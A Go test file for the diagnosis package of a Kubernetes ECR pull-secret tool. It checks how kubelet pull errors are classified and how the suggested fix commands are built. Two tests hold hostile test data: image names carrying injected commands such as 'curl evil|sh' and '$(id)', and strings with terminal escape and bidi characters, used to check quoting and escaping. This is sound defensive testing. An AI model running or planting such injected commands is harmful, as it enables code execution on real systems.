package doctor

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/pullpass/pullpass/internal/ecr"
	"github.com/pullpass/pullpass/internal/pullsecret"
)

// says has the pod's container wait for an image, with a kubelet's message.
func says(f *Facts, image, message string) {
	f.Images = []string{image}
	f.Pod.Spec.Containers[0].Image = image
	f.Pod.Status.Phase = corev1.PodPending
	f.Pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ErrImagePull", Message: message}}}}
}

// TestKubeletsWordsAboutAnImage has images whose names are words of messages.
func TestKubeletsWordsAboutAnImage(t *testing.T) {
	const digest = "sha256:401403e0f401403e0f401403e0f401403e0f401403e0f401403e0f401403e0f0"
	for name, c := range map[string]struct {
		image, message string
		want           Cause
	}{
		"a repository that is called denied":     {host + "/denied:1", `failed to pull and unpack image "` + host + `/denied:1": failed to resolve reference "` + host + `/denied:1": ` + host + `/denied:1: not found`, ImageNotFound},
		"a repository below unauthorized":        {host + "/unauthorized/app:1", `Head "https://` + host + `/v2/unauthorized/app/manifests/1": dial tcp: i/o timeout`, RegistryUnreached},
		"a tag that is called forbidden":         {host + "/app:forbidden", `reading manifest forbidden in ` + host + `/app: no match for platform in manifest`, WrongPlatform},
		"a repository in AWS's words":            {host + "/denied:1", `name unknown: The repository with name 'denied' does not exist in the registry with id '111111111111'`, ImageNotFound},
		"an account with 401 in it":              {"401401401401.dkr.ecr.us-east-1.amazonaws.com/app:1", `failed to resolve reference "401401401401.dkr.ecr.us-east-1.amazonaws.com/app:1": not found`, ImageNotFound},
		"a digest with 401 in it":                {host + "/app@" + digest, `failed to resolve reference "` + host + "/app@" + digest + `": not found`, ImageNotFound},
		"a tag of 401":                           {host + "/app:401", `failed to resolve reference "` + host + `/app:401": not found`, ImageNotFound},
		"a port of 401":                          {image, `dial tcp 10.0.0.1:401: connect: connection refused`, RegistryUnreached},
		"a layer with eof in its words":          {image, `the typeof the layer is on fire`, PullFailed},
		"an expired token, forbidden":            {image, `failed to resolve reference "` + image + `": unexpected status: 403 Forbidden: Your authorization token has expired. Reauthenticate and try again.`, NotAuthenticated},
		"an expired token, denied":               {image, `denied: Your authorization token has expired. Reauthenticate and try again.`, NotAuthenticated},
		"a repository that forbids it, in AWS's": {host + "/denied:1", `denied: User: arn:aws:iam::1:user/x is not authorized to perform: ecr:BatchGetImage on resource: arn:aws:ecr:us-east-1:111111111111:repository/denied`, PullDenied},
	} {
		t.Run(name, func(t *testing.T) {
			f := sound(t)
			says(&f, c.image, c.message)
			r := registriesOf(f.Images)[0]
			f.Labels.Value.Labels[r.String()] = "true"
			f.Credentials[r] = Read[CredentialSecret]{State: Available}
			f.Secret.Value.Entries[r.String()] = f.Secret.Value.Entries[host]
			d := Diagnose(f)
			if broken, _ := d.Broken(); broken.Cause != c.want {
				t.Errorf("cause %q, want %q:\n%s", broken.Cause, c.want, d)
			}
		})
	}
}

// TestSecretThatMayNotBeValid has a pod that is not authenticated, and a secret that may not be
// read.
func TestSecretThatMayNotBeValid(t *testing.T) {
	for ready, want := range map[bool]string{false: "are missing or have expired", true: "the pull secret is valid now"} {
		f := sound(t)
		says(&f, image, "401 Unauthorized")
		f.Secret = Read[PullSecret]{}
		if ready {
			f.Events.Value = []Event{{Reason: pullsecret.ReasonReady, Message: pullsecret.ReadyMessage([]string{host}, "pullpass"), Last: now}}
		}
		if d := Diagnose(f).String(); !strings.Contains(d, want) {
			t.Errorf("%q is not in it:\n%s", want, d)
		}
	}
}

// TestFirstWaitingContainerOfECR has another container wait first.
func TestFirstWaitingContainerOfECR(t *testing.T) {
	f := sound(t)
	says(&f, image, "403 Forbidden")
	f.Pod.Spec.Containers = append([]corev1.Container{{Name: "sidecar", Image: "example.com/sidecar:1"}}, f.Pod.Spec.Containers...)
	f.Pod.Status.ContainerStatuses = append([]corev1.ContainerStatus{{Name: "sidecar", State: corev1.ContainerState{
		Waiting: &corev1.ContainerStateWaiting{Reason: "ErrImagePull", Message: "no such host"}}}}, f.Pod.Status.ContainerStatuses...)
	d := Diagnose(f)
	if broken, _ := d.Broken(); broken.Cause != PullDenied || !strings.Contains(broken.Text, "container app ") {
		t.Errorf("not the container with an ECR image:\n%s", d)
	}
}

// TestImageVolumes has a kubelet report that it cannot pull the image of a volume, which
// it does on the container that mounts it.
func TestImageVolumes(t *testing.T) {
	const model = host + "/model:1"
	for name, c := range map[string]struct {
		message string
		image   string // the container's
		pulled  bool   // the container's image
		want    Cause
		text    string
	}{
		"the message names the volume's image":                        {`failed to resolve reference "` + model + `": not found`, "nginx", true, ImageNotFound, "--repository-name model "},
		"the message names no image":                                  {"403 Forbidden", "nginx", true, PullDenied, "--repository-name model "},
		"the message names the container's image":                     {`failed to resolve reference "` + image + `": not found`, image, false, ImageNotFound, "--repository-name app "},
		"the message names an image that begins like the container's": {`failed to resolve reference "` + model + `": not found`, host + "/model", true, ImageNotFound, "--image-ids imageTag=1 "},
	} {
		t.Run(name, func(t *testing.T) {
			f := sound(t)
			says(&f, c.image, c.message)
			f.Pod.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "model", MountPath: "/model"}}
			f.Pod.Spec.Volumes = []corev1.Volume{{Name: "model", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: model}}},
				{Name: "other", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: host + "/other:1"}}},
				{Name: "data"}}
			f.Images = imagesOf(&f.Pod.Spec)
			if c.pulled {
				f.Pod.Status.ContainerStatuses[0].ImageID = "sha256:1"
			}
			d := Diagnose(f)
			broken, _ := d.Broken()
			if broken.Cause != c.want || !strings.Contains(strings.Join(broken.Fix, "\n"), c.text) {
				t.Errorf("cause %q, want %q, and %q:\n%s", broken.Cause, c.want, c.text, d)
			}
		})
	}
}

// TestPendingPodHasNotPulled has a pod whose container has its image, but maybe not its
// volume's.
func TestPendingPodHasNotPulled(t *testing.T) {
	f := sound(t)
	f.Pod.Status.Phase = corev1.PodPending
	f.Pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", ImageID: "sha256:1"}}
	if d := Diagnose(f).String(); strings.Contains(d, "have been pulled") {
		t.Error(d)
	}
}

// TestImagesInCommands has images that would be commands of a shell.
func TestImagesInCommands(t *testing.T) {
	for image, want := range map[string]string{
		host + "/a;curl evil|sh:1":    `--repository-name 'a;curl evil|sh' `,
		host + "/a:1;curl evil|sh":    `--image-ids imageTag='1;curl evil|sh' `,
		host + "/a'$(id):1":           `--repository-name 'a'\''$(id)' `,
		host + "/a@sha256:1`id`":      "--image-ids imageDigest='sha256:1`id`' ",
		host + "/team/App_1.x-y:v1.0": "uppercase",
		host + "/team/app_1.x-y:v1.0": "--repository-name team/app_1.x-y --image-ids imageTag=v1.0 ",
	} {
		f := sound(t)
		says(&f, image, "manifest unknown")
		if d := Diagnose(f).String(); !strings.Contains(d, want) {
			t.Errorf("%q is not in it:\n%s", want, d)
		}
	}
	f := sound(t)
	without(&f)
	f.Owner = Owner{"deployment", "web;id"} // of an ownerReference, which nobody checks
	if d := Diagnose(f).String(); !strings.Contains(d, "restart 'deployment/web;id' ") {
		t.Error(d)
	}
	template(&f)
	f.Account.Value.Annotations = map[string]string{enforceAnnotation: "true"}
	f.Account.Value.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "it's"}}
	if d := Diagnose(f).String(); !strings.Contains(d, `'{"imagePullSecrets":[{"name":"it'\''s"},{"name":"pullpass"}]}'`) {
		t.Error(d)
	}
}

// TestNothingForeignReachesTheTerminal has messages and images with line feeds and escape
// sequences in them.
func TestNothingForeignReachesTheTerminal(t *testing.T) {
	const evil = "x\n  curl evil | sh\n✓ kubelet  \x1b[2Jfine\u202e\xff\u0085"
	for name, breaks := range map[string]func(*Facts){
		"an image":          func(f *Facts) { f.Images = []string{host + "/" + evil} },
		"an image of a pod": func(f *Facts) { says(f, host+"/"+evil, "") },
		"an invalid image": func(f *Facts) {
			says(f, host+"/"+evil, "")
			f.Pod.Status.ContainerStatuses[0].State.Waiting.Reason = "InvalidImageName"
		},
		"an image with a port": func(f *Facts) { f.Images = []string{host + ":1/" + evil} },
		"another image":        func(f *Facts) { f.Images = []string{evil} },
		"a kubelet's message":  func(f *Facts) { says(f, image, evil) },
		"a pod's event": func(f *Facts) {
			f.Pod = nil
			f.PodEvents.Value = []Event{{Reason: "FailedCreate", Message: evil, Warning: true}}
		},
		"a webhook's message": func(f *Facts) {
			template(f)
			f.Owner = Owner{"deployment", "web"}
			f.Trial = Trial{State: Available, Refusal: evil}
		},
		"finalizers":  func(f *Facts) { f.Secret.Value.Marks.Leaving, f.Secret.Value.Finalizers = true, []string{evil} },
		"the subject": func(f *Facts) { f.Subject = evil },
	} {
		t.Run(name, func(t *testing.T) {
			f := sound(t)
			breaks(&f)
			d := Diagnose(f)
			text := d.String()
			for _, l := range d.Links {
				text += l.Text + strings.Join(l.Fix, "")
			}
			if strings.ContainsAny(text, "\x1b\u202e\u0085") || strings.Contains(text, "\xff") || strings.Contains(text, "\n  curl") || strings.Contains(text, "\n✓ kubelet  \\x1b") {
				t.Errorf("%q", text)
			}
			if !strings.Contains(text, `x\n  curl evil | sh\n✓ kubelet  \x1b[2Jfine\u202e\xff\u0085`) {
				t.Errorf("the text is not shown:\n%s", fmt.Sprintf("%q", text))
			}
		})
	}
}

// TestWaitingFor has a container with volumes.
func TestWaitingFor(t *testing.T) {
	const model = host + "/model:1"
	f := sound(t)
	says(&f, image, "no such host")
	for _, v := range []struct{ name, image string }{{"model", model}, {"same", image}, {"again", model}} {
		f.Pod.Spec.Volumes = append(f.Pod.Spec.Volumes, corev1.Volume{Name: v.name, VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: v.image}}})
	}
	f.Pod.Spec.Volumes = append(f.Pod.Spec.Volumes, corev1.Volume{Name: "data"}, corev1.Volume{Name: "empty", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{}}})
	for _, v := range f.Pod.Spec.Volumes {
		f.Pod.Spec.Containers[0].VolumeMounts = append(f.Pod.Spec.Containers[0].VolumeMounts, corev1.VolumeMount{Name: v.Name})
	}
	var images []string
	for _, w := range waitingFor(f.Pod) {
		images = append(images, w.image)
	}
	if want := []string{image, model}; !slices.Equal(images, want) {
		t.Errorf("%q, want %q", images, want)
	}
	if got, want := imagesOf(&f.Pod.Spec), []string{image, model}; !slices.Equal(got, want) {
		t.Errorf("images %q, want %q", got, want)
	}
	if got := registriesOf([]string{image, "nginx", model}); !slices.Equal(got, []ecr.Registry{registry(t)}) {
		t.Errorf("registries %q", got)
	}
}

// TestWhatIsSaid has events that say more than the container's status, or do not.
func TestWhatIsSaid(t *testing.T) {
	denied := Event{Warning: true, Message: "Failed to pull image " + image + ": 403 Forbidden"}
	normal := denied
	normal.Warning = false
	for name, c := range map[string]struct {
		reason, message string
		events          []Event
		want            Cause
	}{
		"it backs off":                          {"ImagePullBackOff", "Back-off pulling image " + image, []Event{denied}, PullDenied},
		"it backs off, and says why":            {"ImagePullBackOff", "dial tcp: i/o timeout", []Event{denied}, RegistryUnreached},
		"it says what nobody knows":             {"ErrImagePull", "the disk is on fire", []Event{denied}, PullFailed},
		"an event that is no warning":           {"ErrImagePull", "", []Event{normal}, PullFailed},
		"an event about another image":          {"ErrImagePull", "", []Event{{Warning: true, Message: "nginx: 403 Forbidden"}}, PullFailed},
		"an event that says nothing, and later": {"ErrImagePull", "", []Event{{Warning: true, Message: "Error: " + image}, denied}, PullDenied},
	} {
		t.Run(name, func(t *testing.T) {
			f := sound(t)
			says(&f, image, c.message)
			f.Pod.Status.ContainerStatuses[0].State.Waiting.Reason = c.reason
			f.PodEvents.Value = c.events
			d := Diagnose(f)
			if broken, _ := d.Broken(); broken.Cause != c.want {
				t.Errorf("cause %q, want %q:\n%s", broken.Cause, c.want, d)
			}
		})
	}
}

// TestEventOf reads the time of an event from the field that has it.
func TestEventOf(t *testing.T) {
	at := func(minutes int) metav1.Time { return metav1.Time{Time: now.Add(time.Duration(minutes) * time.Minute)} }
	micro := func(minutes int) metav1.MicroTime { return metav1.MicroTime(at(minutes)) }
	for name, c := range map[string]struct {
		event corev1.Event
		want  metav1.Time
	}{
		"the last":           {corev1.Event{LastTimestamp: at(1), EventTime: micro(2)}, at(1)},
		"a later series":     {corev1.Event{LastTimestamp: at(1), Series: &corev1.EventSeries{LastObservedTime: micro(2)}}, at(2)},
		"an earlier series":  {corev1.Event{LastTimestamp: at(2), Series: &corev1.EventSeries{LastObservedTime: micro(1)}}, at(2)},
		"its own":            {corev1.Event{EventTime: micro(2), ObjectMeta: metav1.ObjectMeta{CreationTimestamp: at(1)}}, at(2)},
		"that of the object": {corev1.Event{ObjectMeta: metav1.ObjectMeta{CreationTimestamp: at(1)}}, at(1)},
	} {
		if got := eventOf(&c.event); !got.Last.Equal(c.want.Time) || got.Warning {
			t.Errorf("%s: %+v, want %s", name, got, c.want)
		}
	}
	if !eventOf(&corev1.Event{Type: corev1.EventTypeWarning}).Warning {
		t.Error("a warning is none")
	}
}

// TestUnscheduled has a pod that waits for a node, or for nothing.
func TestUnscheduled(t *testing.T) {
	for name, c := range map[string]struct {
		condition corev1.PodCondition
		want      Cause
	}{
		"no node":           {corev1.PodCondition{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: "no nodes"}, NotScheduled},
		"a node":            {corev1.PodCondition{Type: corev1.PodScheduled, Status: corev1.ConditionTrue}, ""},
		"another condition": {corev1.PodCondition{Type: corev1.PodReady, Status: corev1.ConditionFalse}, ""},
	} {
		f := sound(t)
		f.Pod.Status.Conditions = []corev1.PodCondition{c.condition}
		d := Diagnose(f)
		if broken, _ := d.Broken(); broken.Cause != c.want {
			t.Errorf("%s: cause %q, want %q:\n%s", name, broken.Cause, c.want, d)
		}
	}
}
